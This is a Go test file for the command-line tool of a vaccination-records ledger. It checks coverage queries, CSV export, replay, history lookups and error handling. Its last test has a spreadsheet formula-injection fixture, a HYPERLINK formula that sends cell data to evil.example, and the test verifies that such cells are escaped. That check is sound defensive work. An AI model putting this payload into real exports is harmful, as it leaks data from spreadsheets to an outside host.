package main

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/doseledger/doseledger/ledger"
	"github.com/doseledger/doseledger/projections"
)

// TestMain_Queries runs the read-model commands on a seeded ledger: their
// answers must agree with each other and with a replay.
func TestMain_Queries(t *testing.T) {
	dir := t.TempDir()
	if _, _, err := run(t, "--data", dir, "seed", "--people", "80", "--days", "70", "--quiet"); err != nil {
		t.Fatal(err)
	}
	// The first query builds and saves the models; replay rebuilds them.
	out, _, err := run(t, "--data", dir, "coverage", "--by", "", "--json")
	if err != nil {
		t.Fatal(err)
	}
	var total []projections.CoverageRow
	if err := json.Unmarshal([]byte(out), &total); err != nil || len(total) != 1 {
		t.Fatalf("coverage total: %v\n%s", err, out)
	}
	if total[0].Doses == 0 || total[0].Registrations == 0 {
		t.Fatalf("coverage counts nothing: %+v", total[0])
	}
	out, _, err = run(t, "--data", dir, "replay")
	if err != nil || !strings.Contains(out, "replayed") || !strings.Contains(out, "people") {
		t.Fatalf("replay: %v\n%s", err, out)
	}

	// Coverage by state sums to the total, in the CSV export too.
	csvPath := filepath.Join(t.TempDir(), "coverage.csv")
	if _, _, err := run(t, "--data", dir, "export", "--out", csvPath, "coverage", "--by", "state"); err != nil {
		t.Fatal(err)
	}
	f, err := os.Open(csvPath)
	if err != nil {
		t.Fatal(err)
	}
	records, err := csv.NewReader(f).ReadAll()
	f.Close()
	if err != nil {
		t.Fatal(err)
	}
	if records[0][0] != "STATE" || records[0][1] != "DOSES" || !slices.Contains(records[0], "REGISTERED") {
		t.Fatalf("CSV header: %v", records[0])
	}
	// Grouped by vaccine, registrations (counted by day and place only)
	// are not shown as zeros.
	if out, _, err := run(t, "--data", dir, "coverage", "--by", "vaccine"); err != nil ||
		strings.Contains(out, "REGISTERED") || !strings.Contains(out, "counted by day and place only") {
		t.Errorf("coverage by vaccine: %v\n%s", err, out)
	}
	sum := 0
	for _, r := range records[1:] {
		n, err := strconv.Atoi(r[1])
		if err != nil {
			t.Fatalf("CSV doses %q: %v", r[1], err)
		}
		sum += n
	}
	if sum != total[0].Doses {
		t.Errorf("doses by state sum to %d, the total is %d", sum, total[0].Doses)
	}

	// Every session in the due list of a site's day is that session's.
	out, _, err = run(t, "--data", dir, "events", "--type", "SessionPublished", "--limit", "1", "--json")
	if err != nil {
		t.Fatal(err)
	}
	var ev ledger.Exported
	var sess struct {
		SiteID string `json:"site_id"`
		Date   string `json:"date"`
	}
	if err := json.Unmarshal([]byte(strings.SplitN(out, "\n", 2)[0]), &ev); err != nil {
		t.Fatal(err)
	}
	json.Unmarshal(ev.Data, &sess)
	out, _, err = run(t, "--data", dir, "due", "--site", sess.SiteID, "--date", sess.Date, "--today", "2030-01-01")
	if err != nil || !strings.Contains(out, "SLOT") || !strings.Contains(out, sess.SiteID) {
		t.Errorf("due --site %s --date %s: %v\n%s", sess.SiteID, sess.Date, err, out)
	}
	if _, _, err := run(t, "--data", dir, "due", "--site", "NOWHERE", "--date", sess.Date); err == nil || !strings.Contains(err.Error(), "no session") {
		t.Errorf("due at an unknown site: %v", err)
	}

	// A person's history, asked for by the stream the events list shows.
	out, _, err = run(t, "--data", dir, "events", "--type", "DoseAdministered", "--limit", "1", "--json")
	if err != nil {
		t.Fatal(err)
	}
	if err := json.Unmarshal([]byte(strings.SplitN(out, "\n", 2)[0]), &ev); err != nil {
		t.Fatal(err)
	}
	byStream, _, err := run(t, "--data", dir, "history", "--beneficiary", ev.Stream)
	if err != nil {
		t.Fatalf("history --beneficiary %s: %v", ev.Stream, err)
	}
	byID, _, err := run(t, "--data", dir, "history", "--beneficiary", strings.TrimPrefix(ev.Stream, "beneficiary-"))
	if err != nil || byID != byStream || !strings.Contains(byID, "DoseAdministered") {
		t.Errorf("history by id (%v) differs from by stream, or lacks the dose:\n%s\n%s", err, byID, byStream)
	}

	// Before the first dose was recorded, the ledger said there were none.
	out, _, err = run(t, "--data", dir, "asof", "--at", "2021-03-01 08:00", "coverage", "--by", "", "--json")
	if err != nil {
		t.Fatal(err)
	}
	var early []projections.CoverageRow
	if err := json.Unmarshal([]byte(out), &early); err != nil {
		t.Fatalf("asof coverage: %v\n%s", err, out)
	}
	if len(early) != 0 && early[0].Doses != 0 {
		t.Errorf("as of 1 Mar 08:00: %d doses, want 0", early[0].Doses)
	}
	for _, bad := range [][]string{
		{"asof", "coverage"},
		{"asof", "--at", "yesterday", "coverage"},
		{"asof", "--at", "2021-04-02 14:00", "--position", "5", "coverage"},
		{"asof", "--position", "5", "frobnicate"},
		{"asof", "--position", "5", "history", "--beneficiary", "AAAAAAAAAAAAAAAA-1"},
		{"coverage", "--by", "colour"},
		{"coverage", "--from", "2021-05-02", "--to", "2021-05-01"},
		{"eligible", "--on", "1 May"},
		{"eligible", "--overdue", "-1"},
		{"anomalies", "--status", "pending"},
		{"anomalies", "--kind", "late"},
	} {
		if _, _, err := run(t, append([]string{"--data", dir}, bad...)...); err == nil {
			t.Errorf("%v: no error", bad)
		}
	}
	// A failed export leaves the previous file as it was.
	before, _ := os.ReadFile(csvPath)
	if _, _, err := run(t, "--data", dir, "export", "--out", csvPath, "coverage", "--by", "colour"); err == nil {
		t.Fatal("export of a bad query succeeded")
	}
	if after, _ := os.ReadFile(csvPath); string(after) != string(before) {
		t.Error("a failed export changed the previous file")
	}
	if left, _ := filepath.Glob(filepath.Join(filepath.Dir(csvPath), ".coverage.csv.*")); len(left) != 0 {
		t.Errorf("a failed export left %v behind", left)
	}

	// A list cut by --limit says it may be longer.
	out, _, err = run(t, "--data", dir, "eligible", "--on", "2021-05-30", "--limit", "1")
	if err != nil || !strings.Contains(out, "1 person shown (--limit 1: there may be more)") {
		t.Errorf("eligible --limit 1: %v\n%s", err, out)
	}

	out, _, err = run(t, "--data", dir, "eligible", "--on", "2021-05-30", "--overdue", "3", "--json")
	if err != nil {
		t.Fatal(err)
	}
	var overdue []projections.Eligibility
	if err := json.Unmarshal([]byte(out), &overdue); err != nil {
		t.Fatal(err)
	}
	for _, e := range overdue {
		if e.Status != projections.StatusOverdue || e.OverdueDays <= 3 {
			t.Errorf("--overdue 3 listed %+v", e)
		}
	}
}

// A command that reads refuses a data directory with no ledger, rather
// than creating an empty one and answering "nothing".
func TestMain_NoLedger(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "typo")
	for _, args := range [][]string{{"events"}, {"coverage"}, {"replay"}, {"history", "--beneficiary", "AAAAAAAAAAAAAAAA-1"}, {"certificate", "--publish", dir + "/www"}} {
		_, _, err := run(t, append([]string{"--data", dir}, args...)...)
		if err == nil || !strings.Contains(err.Error(), "no ledger in") {
			t.Errorf("%v on a missing ledger: %v", args, err)
		}
	}
	if _, err := os.Stat(dir); err == nil {
		t.Error("a read command created the data directory")
	}
}

// An answer with nothing in it is an empty JSON list, not null.
func TestResult_EmptyJSONList(t *testing.T) {
	var buf bytes.Buffer
	if err := (result{value: []projections.Eligibility(nil)}).write(&buf, formatJSON); err != nil {
		t.Fatal(err)
	}
	if got := strings.TrimSpace(buf.String()); got != "[]" {
		t.Errorf("an empty answer as JSON: %q, want []", got)
	}
}

// A seed refused for its flags writes nothing: the same directory seeds
// at once with good ones.
func TestSeed_RefusedFlagsWriteNothing(t *testing.T) {
	dir := t.TempDir()
	for _, bad := range [][]string{
		{"--start", "2020-06-01"}, // before vaccination began, and its policies
		{"--days", "-3"},
	} {
		_, _, err := run(t, append([]string{"--data", dir, "seed", "--people", "20", "--quiet"}, bad...)...)
		if err == nil {
			t.Errorf("seed %v was accepted", bad)
		}
	}
	if _, stderr, err := run(t, "--data", dir, "seed", "--people", "20", "--days", "5", "--quiet"); err != nil {
		t.Fatalf("a good seed after the refused ones: %v\n%s", err, stderr)
	}
}

// TestResult_CSVCellsAreNotFormulas: place, site and vaccine names come
// from field reports; written to CSV, none may start a formula.
func TestResult_CSVCellsAreNotFormulas(t *testing.T) {
	r := result{header: []string{"STATE", "DISTRICT", "SITE", "VACCINE", "DOSES"},
		rows: [][]string{{"+Maharashtra", "=1+2", "@SUM(1+1)", `=HYPERLINK("http://evil.example/?"&A1,"click")`, "-1"}}}
	var b bytes.Buffer
	if err := r.write(&b, formatCSV); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&b).ReadAll()
	if err != nil || len(rows) != 2 {
		t.Fatalf("%v %q", err, rows)
	}
	want := []string{"'+Maharashtra", "'=1+2", "'@SUM(1+1)", `'=HYPERLINK("http://evil.example/?"&A1,"click")`, "-1"}
	if !slices.Equal(rows[1], want) {
		t.Errorf("row %q, want %q", rows[1], want)
	}
}
